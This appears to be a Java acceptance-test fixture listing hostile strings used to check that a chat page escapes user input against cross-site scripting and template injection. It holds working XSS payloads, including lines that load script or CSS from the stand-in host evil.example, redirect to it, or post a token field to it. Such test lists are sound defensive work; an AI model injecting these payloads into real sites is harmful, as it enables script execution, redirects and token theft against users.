package com.nexora.chat.acceptance;

import java.util.List;

/// Text that would run, or break out of where it stands, on a page that does not escape it: each
/// way
/// out of an element, an attribute, a script, a style, a comment and a template (OWASP, Cross Site
/// Scripting Prevention). What runs opens a dialog or sets `ranHere`.
final class Hostile {

  static final List<String> STRINGS = List.of(
      "<script>window.ranHere=1;alert(1)</script>",
      "<ScRiPt/src=//evil.example/x.js></ScRiPt>",
      "\"><img src=x onerror=alert(2)>",
      "'><svg/onload=alert(3)>",
      "<iframe srcdoc='<script>parent.ranHere=1</script>'></iframe>",
      "<a href=\"javascript:alert(4)\">Refund</a>",
      "<body onload=alert(5)><details open ontoggle=alert(6)>",
      "</textarea></title></style></script><script>alert(7)</script>",
      "--><!--<img src=x onerror=alert(8)>",
      "<div hx-get=\"/console\" hx-trigger=\"load\" hx-on:load=\"alert(9)\">",
      "<style>@import '//evil.example/x.css';</style>",
      "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>",
      "<form action=//evil.example><input name=token autofocus onfocus=alert(10)>",
      "${7*7} @if(true) {{constructor.constructor('alert(11)')()}} #{7*7} <%= 7*7 %>",
      "&lt;script&gt;alert(12)&lt;/script&gt; &#x3C;script&#x3E;alert(13)",
      "<math><mtext><table><mglyph><style><img src=x onerror=alert(14)>",
      "\\x3cscript\\x3ealert(15)\\x3c/script\\x3e \\u003cimg src=x onerror=alert(16)\\u003e",
      "<noscript><p title=\"</noscript><img src=x onerror=alert(17)>\">");

  private Hostile() {}
}
